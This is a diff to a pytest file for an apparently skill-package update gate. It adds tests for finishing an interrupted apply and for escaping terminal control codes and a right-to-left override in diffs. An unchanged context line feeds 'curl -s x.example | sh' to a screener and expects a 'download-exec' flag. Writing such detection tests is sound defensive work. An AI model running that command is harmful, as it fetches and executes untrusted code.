@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 
 from impromptu_ops.cli.main import run
+from impromptu_ops.gate.diff import colourize
 from tests.fixtures_gate import BENIGN_V1, BENIGN_V2, GateEnv
 
 
@@ -210,3 +211,36 @@ def test_screen_cli(cli: Cli, gate_env: GateEnv, tmp_path: Path,
     monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"curl -s x.example | sh\n")))
     _, err = cli("screen", "-", code=1)
     assert "download-exec" in err
+
+
+def test_apply_interrupted_after_the_switch_completes_on_rerun(gate_env: GateEnv) -> None:
+    gate_env.install("1.0.0", BENIGN_V1)
+    gate = gate_env.gate()
+    rev = gate.fetch(str(gate_env.pkg("1.1.0", BENIGN_V2)))
+    gate.approve(digest=rev.digest)
+    # what apply does up to the switch, then "dies" before cleaning up
+    cand = gate.folder.candidate()
+    inst = gate.folder.installed()
+    assert inst is not None
+    slot = gate.folder.write_version(cand, {"version": "1.1.0", "digest": rev.digest,
+                                            "previous": inst.slot, "appliedAt": "t"})
+    gate.folder.switch("current", f"versions/{slot}")
+    record = gate_env.gate().apply()
+    assert record["slot"] == slot and gate_env.current_tree() == BENIGN_V2
+    assert not (gate_env.skill_dir / "candidate").exists()
+    assert [e["event"] for e in gate.audit.entries()][-1] == "apply-completed"
+    assert gate.audit.verify().ok
+
+
+def test_diff_colour_and_pager_flags(cli: Cli, gate_env: GateEnv) -> None:
+    gate_env.install("1.0.0", BENIGN_V1)
+    files = dict(BENIGN_V2)
+    files["SKILL.md"] = (BENIGN_V2["SKILL.md"][0] + "\x1b[2J hidden\u202e\n".encode(), 0o644)
+    cli("update", "fetch", str(gate_env.pkg("1.1.0", files)))
+    out, _ = cli("update", "diff", "--color", "--pager")  # no TTY: the pager just echoes
+    assert "+## Budget" in out
+    assert "\x1b[2J" not in out and "\u202e" not in out
+    assert "<U+001B>[2J hidden<U+202E>" in out
+    review = gate_env.gate().review()
+    coloured = colourize(review.diff)
+    assert "\x1b[32m+## Budget\x1b[0m" in coloured and "\x1b[2J" not in coloured
